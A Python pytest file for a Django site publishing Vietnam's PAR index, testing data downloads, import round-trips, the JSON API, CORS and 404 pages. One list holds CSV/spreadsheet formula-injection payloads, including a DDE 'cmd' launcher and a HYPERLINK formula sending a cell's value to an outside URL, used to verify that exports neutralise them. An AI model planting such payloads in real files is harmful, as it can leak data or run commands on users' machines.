"""Downloads in the import layout: export → import round-trips exactly."""

import csv
import io
import json
from decimal import Decimal

import pytest

from parindex.models import Edition, Group, Result
from parindex.services import edition_import, edition_release, resetting_demo
from parindex.tables import read_table

pytestmark = pytest.mark.django_db


def snapshot(edition):
    return sorted(
        (
            r.unit.slug,
            r.published_name,
            r.rank,
            r.total,
            r.index,
            r.appraisal,
            r.survey,
            tuple(
                (s.area.number, s.points)
                for s in r.area_scores.order_by("area__number")
            ),
        )
        for r in edition.results.select_related("unit")
    )


@pytest.mark.parametrize("fmt", ["csv", "excel.csv", "xlsx", "json"])
@pytest.mark.parametrize(
    ("year", "group"), [(2023, "bo"), (2019, "tinh"), (2024, "tinh")]
)
def test_downloaded_file_reimports_unchanged(demo, client, fmt, year, group):
    edition = Edition.objects.get(year=year, group=group)
    before = snapshot(edition)
    framework = edition.framework
    separator = "-" if fmt == "excel.csv" else "."
    response = client.get(f"/chi-so-cchc/{year}/{group}{separator}{fmt}")
    assert response.status_code == 200
    content = response.content

    # Released editions cannot be deleted (migration 0005) except demo ones by
    # seed_demo --reset: relabel this one so, to load its download again.
    Edition.objects.filter(pk=edition.pk).update(is_demo=True)
    with resetting_demo():
        edition.delete()
    outcome = edition_import(
        table=read_table(content, f"x.{fmt}"),
        year=year,
        group=group,
        framework=framework,
    )

    assert outcome.ok, [str(p) for p in outcome.problems]
    assert snapshot(outcome.edition) == before


def test_csv_round_trip_is_byte_identical_for_the_official_table(reference, client):
    edition = Edition.objects.get(year=2023, group=Group.MINISTRY)
    first = client.get("/chi-so-cchc/2023/bo.csv").content
    fields = {
        f: getattr(edition, f)
        for f in (
            "announced_on",
            "n_ranked",
            "national_average",
            "source_url",
            "announcing_body",
            "announcement_document",
            "survey_size_not_published",
        )
    }
    framework = edition.framework
    # A released edition cannot be deleted (migration 0005) except a demo one
    # by seed_demo --reset: relabel it so, to load its download again.
    Edition.objects.filter(pk=edition.pk).update(is_demo=True)
    with resetting_demo():
        edition.delete()
    outcome = edition_import(
        table=read_table(first, "bo.csv"), year=2023, group="bo", framework=framework
    )
    Edition.objects.filter(pk=outcome.edition.pk).update(**fields)
    edition_release(edition=outcome.edition)
    assert client.get("/chi-so-cchc/2023/bo.csv").content == first


def test_csv_download_has_headers_bom_and_the_official_numbers(reference, client):
    response = client.get("/chi-so-cchc/2023/bo.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="par-index-2023-bo.csv"' in response["Content-Disposition"]
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    # The header is the first line: tools that detect headers find it.
    assert text[1:].splitlines()[0] == (
        "Xếp hạng,Tên đơn vị,Điểm thẩm định,Điểm điều tra XHH,Tổng điểm,Chỉ số (%)"
    )
    assert "1,Bộ Tư pháp,61.86,28.10,89.95,89.95" in text
    assert "minh họa" not in text


def test_excel_csv_uses_semicolons_and_decimal_commas(reference, client):
    response = client.get("/chi-so-cchc/2023/bo-excel.csv")
    assert response.status_code == 200
    assert 'filename="par-index-2023-bo.excel.csv"' in response["Content-Disposition"]
    lines = response.content.decode("utf-8-sig").splitlines()
    assert lines[0] == (
        "Xếp hạng;Tên đơn vị;Điểm thẩm định;Điểm điều tra XHH;Tổng điểm;Chỉ số (%)"
    )
    assert lines[1] == "1;Bộ Tư pháp;61,86;28,10;89,95;89,95"


def test_both_csv_flavours_are_offered_side_by_side(reference, client):
    html = client.get("/chi-so-cchc/du-lieu-mo/").content.decode()
    plain = html.index('href="/chi-so-cchc/2023/bo.csv"')
    excel = html.index('href="/chi-so-cchc/2023/bo-excel.csv"')
    assert 0 < excel - plain < 200
    api = client.get("/chi-so-cchc/api/v1/editions/").json()["editions"]
    assert all(e["downloads"]["csv-excel"].endswith("-excel.csv") for e in api)


def test_demo_downloads_say_they_are_demo(demo, client):
    response = client.get("/chi-so-cchc/2024/tinh.csv")
    assert "minh-hoa" in response["Content-Disposition"]
    assert response["X-Demo-Data"]
    assert response.content.decode("utf-8-sig").startswith("Xếp hạng,")
    data = json.loads(client.get("/chi-so-cchc/2024/tinh.json").content)
    assert data["edition"]["is_demo"] is True
    assert (
        data["edition"]["notice"] == "Dữ liệu minh họa, không phải số liệu chính thức"
    )
    response = client.get("/chi-so-cchc/2024/tinh.xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxml")
    assert "minh-hoa" in response["Content-Disposition"]


def test_unknown_edition_downloads_are_404(reference, client):
    assert client.get("/chi-so-cchc/2031/bo.csv").status_code == 404
    assert client.get("/chi-so-cchc/2023/xx.csv").status_code == 404


def test_api_lists_editions_and_units_and_redirects_old_slugs(demo, client):
    editions = client.get("/chi-so-cchc/api/v1/editions/").json()["editions"]
    official = next(e for e in editions if e["year"] == 2023 and e["group"] == "bo")
    assert official["is_demo"] is False and official["national_average"] == 84.38

    detail = client.get("/chi-so-cchc/api/v1/editions/2023/bo/").json()
    assert detail["results"][0] == {
        "rank": 1,
        "unit": "bo-tu-phap",
        "published_name": "Bộ Tư pháp",
        "total": 89.95,
        "index": 89.95,
        "appraisal": 61.86,
        "survey": 28.1,
        "areas": {},
    }
    assert "CC BY 4.0" in detail["licence"]

    units = client.get("/chi-so-cchc/api/v1/units/?group=tinh").json()["units"]
    assert len(units) == 86

    redirect = client.get("/chi-so-cchc/api/v1/units/thua-thien-hue/")
    assert redirect.status_code == 301
    hue = client.get(redirect["Location"]).json()
    assert {"name": "Thừa Thiên Huế", "kind": "former"} in hue["unit"]["other_names"]

    ha_giang = client.get("/chi-so-cchc/api/v1/units/ha-giang/").json()
    assert ha_giang["unit"]["successors"] == [
        {"unit": "tuyen-quang-2025", "effective_on": "2025-07-01"}
    ]
    no_edition = client.get("/chi-so-cchc/api/v1/editions/2031/bo/")
    assert no_edition.status_code == 404 and no_edition.json()["error"]
    missing = client.get("/chi-so-cchc/api/v1/units/khong-co/")
    assert missing.status_code == 404 and missing.json()["error"]
    assert client.post("/chi-so-cchc/api/v1/editions/").status_code == 405


def test_open_data_page_has_dictionary_citation_and_licence(reference, client):
    html = client.get("/chi-so-cchc/du-lieu-mo/").content.decode()
    assert "Từ điển dữ liệu" in html
    assert "Trích dẫn" in html and "CC BY 4.0" in html
    assert "/chi-so-cchc/2023/bo.csv" in html
    assert Result.objects.filter(edition__year=2023).count() == 17


FORMULAS = [
    '=HYPERLINK("http://example.com/?x="&A1,"Bấm")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tBộ Tư pháp",
    "\rBộ Tư pháp",
]


def test_downloads_write_formula_like_text_so_spreadsheets_show_it_as_text(reference):
    from io import BytesIO
    from zipfile import ZipFile

    from openpyxl import load_workbook

    from parindex import selectors
    from parindex.tables import write_csv, write_xlsx

    # The official table as every download lays it out, with names a hostile
    # or careless editor could have typed (released rows cannot be changed).
    edition = Edition.objects.get(year=2023, group=Group.MINISTRY)
    layout = selectors.edition_get_layout(edition)
    for row, text in zip(layout.rows, FORMULAS, strict=False):
        row[1] = text
    layout.headers[-1] = "=1+1"

    csv_text = write_csv(layout).decode("utf-8-sig")
    rows = [row for row in csv.reader(io.StringIO(csv_text)) if len(row) > 2]
    names = [row[1] for row in rows]
    assert ["'" + text for text in FORMULAS] == names[1 : len(FORMULAS) + 1]
    assert rows[0][-1] == "'=1+1"
    # Numbers stay numbers: no apostrophe before any figure.
    figures = [cell for row in rows[1:] for cell in row[2:]]
    assert figures and all(Decimal(cell) for cell in figures)

    xlsx = write_xlsx(layout, sheet_title="PAR INDEX 2023 bo")
    sheet_xml = ZipFile(BytesIO(xlsx)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no live formula anywhere
    sheet = load_workbook(BytesIO(xlsx)).active
    names = [row[1].value for row in sheet.iter_rows() if row[1].value in FORMULAS]
    # XML reads a stored carriage return back as a line feed: still text.
    assert names == FORMULAS[:-1]
    totals = [row[4] for row in sheet.iter_rows() if row[1].value in FORMULAS]
    assert all(cell.data_type == "n" for cell in totals)


def test_the_import_reads_neutralised_text_back_as_it_was(reference):
    from parindex.tables import Layout, write_csv

    layout = Layout(
        title_lines=["=Tiêu đề"],
        headers=["Xếp hạng", "Tên đơn vị", "Tổng điểm"],
        rows=[[i, text, Decimal("80.00")] for i, text in enumerate(FORMULAS, 1)],
        metadata={},
    )
    table = read_table(write_csv(layout), "a.csv")
    assert [row.name for row in table.rows] == [text.strip() for text in FORMULAS]


OPEN_URLS = [
    "/chi-so-cchc/api/v1/",
    "/chi-so-cchc/api/v1/editions/",
    "/chi-so-cchc/api/v1/editions/2023/bo/",
    "/chi-so-cchc/api/v1/editions/2031/bo/",  # a 404 other sites may read too
    "/chi-so-cchc/api/v1/units/",
    "/chi-so-cchc/api/v1/units/bo-tu-phap/",
    "/chi-so-cchc/2023/bo.csv",
    "/chi-so-cchc/2023/bo-excel.csv",
    "/chi-so-cchc/2023/bo.xlsx",
    "/chi-so-cchc/2023/bo.json",
]


@pytest.mark.parametrize("url", OPEN_URLS)
def test_api_and_downloads_are_readable_by_other_sites_and_link_the_licence(
    reference, client, url
):
    response = client.get(url)
    assert response.status_code in (200, 404)
    assert response["Access-Control-Allow-Origin"] == "*"
    assert (
        '<https://creativecommons.org/licenses/by/4.0/>; rel="license"'
        in (response["Link"])
    )


@pytest.mark.parametrize(
    "url",
    [
        "/",
        "/chi-so-cchc/du-lieu-mo/",
        "/chi-so-cchc/2023/bo/",
        "/tim-kiem/?q=cai+cach",
        "/quan-tri/login/",
    ],
)
def test_pages_forms_and_admin_send_no_cors_header(reference, client, url):
    response = client.get(url)
    assert response.status_code == 200
    assert not response.has_header("Access-Control-Allow-Origin")


@pytest.mark.parametrize(
    "path",
    [
        "/chi-so-cchc/api/v1/units/ /",
        "/chi-so-cchc/api/v1/editions/2023/khong-co/",
        "/chi-so-cchc/api/v1/khong-co/",
    ],
)
def test_api_paths_no_route_matches_answer_the_api_json_404(reference, client, path):
    response = client.get(path)
    assert response.status_code == 404
    assert response["Content-Type"].startswith("application/json")
    assert response.json()["error"] and "CC BY 4.0" in response.json()["licence"]
    assert response["Access-Control-Allow-Origin"] == "*"


def test_pages_outside_the_api_keep_the_html_404(reference, client):
    response = client.get("/chi-so-cchc/khong-co/ /")
    assert response.status_code == 404
    assert response["Content-Type"].startswith("text/html")
    assert "<h1>Không tìm thấy trang</h1>" in response.content.decode()
